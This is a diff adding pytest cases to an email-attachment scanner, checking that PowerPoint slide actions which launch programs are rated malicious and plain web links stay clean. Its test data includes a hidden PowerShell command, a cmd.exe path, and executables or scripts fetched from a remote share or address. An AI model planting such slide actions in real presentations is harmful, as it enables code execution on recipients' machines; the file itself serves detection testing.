@@ -12,6 +12,7 @@ from mailcheck.model import Finding, ScanResult
 from testkit.msg_writer import write_ole
 from testkit.office import (
     build_docx_with_object,
+    build_pptx,
     build_rtf,
     build_template_docx,
     build_word2003_xml,
@@ -224,3 +225,37 @@ def test_documents_without_a_package_never_reach_the_worker(
     scan(build_docx_with_object(embedded_excel_ole()), "sheet.docx", "en")
     scan(build_rtf(text="no objects"), "letter.rtf", "en")
     assert calls == []
+
+
+# --- PowerPoint action settings ----------------------------------------------------------------
+
+
+@pytest.mark.parametrize("lang", ["en", "ja"])
+@pytest.mark.parametrize(
+    ("trigger", "action", "target"),
+    [
+        ("hlinkMouseOver", "ppaction://program", "powershell.exe -w hidden -c calc"),
+        ("hlinkClick", "ppaction://program", "C:\\Windows\\System32\\cmd.exe"),
+        ("hlinkClick", "", "\\\\203.0.113.5\\share\\invoice.exe"),
+        ("hlinkMouseOver", "", "file:///C:/Users/Public/update.hta"),
+        ("hlinkClick", "ppaction://hlinkfile", "http://203.0.113.5/invoice.js"),
+    ],
+)
+def test_slide_action_that_runs_a_program_is_critical(
+    trigger: str, action: str, target: str, lang: str
+) -> None:
+    result = scan(build_pptx([(trigger, action, target)], show=True), "results.ppsx", lang)
+    hit = found(result, "attachment.slide_action")
+    assert hit.evidence[0].location == "attachment 2/results.ppsx: ppt/slides/slide1.xml"
+    assert hit.facts()["trigger"] == ("mouse-over" if trigger == "hlinkMouseOver" else "click")
+    assert hit.facts()["action"] == (action or "hyperlink")
+    assert result.verdict.label == "malicious"
+
+
+@pytest.mark.parametrize("lang", ["en", "ja"])
+@pytest.mark.parametrize("trigger", ["hlinkClick", "hlinkMouseOver"])
+def test_slide_links_to_web_pages_stay_clean(trigger: str, lang: str) -> None:
+    links = [(trigger, "", "https://www.example.com/results"), (trigger, "", "report.pdf")]
+    result = scan(build_pptx(links), "results.pptx", lang)
+    assert "attachment.slide_action" not in ids(result)
+    assert result.verdict.label == "clean", where(result)
